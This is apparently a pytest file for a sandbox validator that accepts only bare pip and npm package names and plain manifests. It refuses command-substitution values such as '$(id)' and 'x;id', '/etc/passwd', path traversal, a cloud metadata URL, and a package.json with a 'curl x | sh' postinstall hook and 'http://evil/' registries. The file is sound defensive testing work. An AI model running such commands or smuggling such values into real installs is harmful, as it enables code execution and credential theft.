"""What may be fetched: names and plain manifests only."""

import json

import pytest

from diono.kernel.errors import InvalidInput
from diono.sandbox.errors import RequirementRefused
from diono.sandbox.installs.orders import FetchOrder, check, clean_manifest, requirement_lines


def test_python_names_are_checked_and_sorted() -> None:
    plan = check(FetchOrder(manager="uv", packages=("httpx >= 0.27", "flask[async]==3.1.0")))
    assert plan.manager == "pip"
    assert plan.packages == ("flask[async]==3.1.0", "httpx>=0.27")


def test_a_requirements_file_is_read_without_comments_markers_and_hashes() -> None:
    text = """\
# all
flask==3.1.0 \\
    --hash=sha256:aa
httpx>=0.27  # client
tomli ; python_version < "3.11"

"""
    assert requirement_lines(text) == ("flask==3.1.0", "httpx>=0.27", "tomli")
    plan = check(FetchOrder(manager="pip", manifest={"requirements.txt": text}))
    assert plan.packages == ("flask==3.1.0", "httpx>=0.27", "tomli")


@pytest.mark.parametrize(
    "line",
    [
        *("-r other.txt", "-e .", "--index-url http://x/", "--extra-index-url http://x/", "./here"),
        *("pkg @ https://example.org/x.whl", "git+https://example.org/x", "/etc/passwd", "a b"),
        *("--no-binary :all:", "-c constraints.txt", "$(id)", "pkg\x00", "x" * 300),
    ],
)
def test_other_lines_are_refused(line: str) -> None:
    with pytest.raises(RequirementRefused):
        check(FetchOrder(manager="pip", manifest={"requirements.txt": line}))
    with pytest.raises(RequirementRefused):
        check(FetchOrder(manager="pip", packages=(line,)))


def test_npm_names() -> None:
    packages = ("vite", "vite@^7", "@types/node@latest", "react@>=18 <20", "lodash.get@4.4.2")
    assert check(FetchOrder(manager="npm", packages=packages)).packages == packages


@pytest.mark.parametrize(
    "text",
    [
        *("git+https://example.org/x", "x@file:../y", "x@https://example.org/x.tgz", "../x", "/x"),
        *("x@github:a/b", "a/b", "--global", "-g", "x@npm:y/z", "x;id", "@x", "", "x@$(id)", "X Y"),
    ],
)
def test_other_npm_places_are_refused(text: str) -> None:
    with pytest.raises(RequirementRefused):
        check(FetchOrder(manager="npm", packages=(text,)))


def test_a_package_json_keeps_names_and_versions_only() -> None:
    given = {
        "name": "app",
        "scripts": {"postinstall": "curl x | sh"},
        "config": {"registry": "http://evil/"},
        "publishConfig": {"registry": "http://evil/"},
        "overrides": {"a": "git+ssh://x"},
        "workspaces": ["../*"],
        "dependencies": {"react": "^19.0.0"},
        "devDependencies": {"vite": "7.x || ~6"},
    }
    assert clean_manifest(json.dumps(given)) == {
        "dependencies": {"react": "^19.0.0"},
        "devDependencies": {"vite": "7.x || ~6"},
    }


@pytest.mark.parametrize(
    "text",
    [
        *("", "[]", "null", "{", "[" * 100_000, '{"dependencies": []}'),
        *(
            '{"dependencies": {"x": "file:../../etc"}}',
            '{"devDependencies": {"x": "git+https://example.org/x.git"}}',
            '{"dependencies": {"../x": "1"}}',
            '{"dependencies": {"x": 1}}',
            '{"optionalDependencies": {"x": "http://169.254.169.254/x.tgz"}}',
        ),
    ],
)
def test_a_package_json_with_places_or_of_another_shape_is_refused(text: str) -> None:
    with pytest.raises((InvalidInput, RequirementRefused)):
        check(FetchOrder(manager="npm", manifest={"package.json": text}))


def test_the_key_tells_orders_apart() -> None:
    one = check(FetchOrder(manager="pip", packages=("a", "b")))
    assert one.key == check(FetchOrder(manager="uv", packages=("b", "a"))).key
    assert one.key != check(FetchOrder(manager="pip", packages=("a", "b"), python="3.12")).key
    with pytest.raises(InvalidInput):
        check(FetchOrder(manager="pip", packages=("a",), python="3.12; id"))


def test_nothing_tells_whose_project_it_is() -> None:
    lock = {"name": "acme", "packages": {"": {"name": "acme", "dependencies": {"a": "1"}}}}
    manifest = {"package.json": '{"name": "acme"}', "package-lock.json": json.dumps(lock)}
    plan = check(FetchOrder(manager="npm", manifest=manifest))
    assert "acme" not in plan.model_dump_json()


def test_a_lookup_takes_bare_names_only_and_has_a_key_of_its_own() -> None:
    plan = check(FetchOrder(manager="pip", packages=("Flask", "httpx"), is_lookup=True))
    fetched = check(FetchOrder(manager="pip", packages=("Flask", "httpx")))
    assert (plan.packages, plan.is_lookup) == (("Flask", "httpx"), True)
    assert plan.key != fetched.key
    for name in ("flask==1", "../x", "-r", "a b", "http://x", "é"):
        with pytest.raises(RequirementRefused):
            check(FetchOrder(manager="pip", packages=(name,), is_lookup=True))
    assert check(FetchOrder(manager="npm", packages=("@a/b",), is_lookup=True)).manager == "npm"
    with pytest.raises(InvalidInput):
        check(FetchOrder(manager="npm", is_lookup=True))
